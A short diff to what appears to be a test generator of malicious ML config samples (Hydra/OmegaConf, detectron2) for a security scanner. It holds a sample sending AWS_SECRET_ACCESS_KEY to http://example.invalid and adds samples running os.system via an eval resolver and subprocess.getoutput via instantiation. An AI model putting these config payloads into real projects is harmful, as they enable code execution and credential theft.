@@ -114,6 +114,12 @@ def _hydra() -> Iterator[Unit]:
         head
         + "note: ${oc.env:AWS_SECRET_ACCESS_KEY}\nhook:\n  _target_: requests.get\n  url: http://example.invalid/?k=${oc.env:AWS_SECRET_ACCESS_KEY}\n",
     )
+    yield bad("resolver", "eval", head + 'lr: ${eval:\'__import__("os").system("true")\'}\n')
+    yield bad(
+        "detectron",
+        "lazy-string",
+        "_target_: detectron2.config.instantiate\ncfg:\n  _target_: subprocess.getoutput\n  cmd: 'true'\n",
+    )
     yield bad(
         "detectron",
         "call",
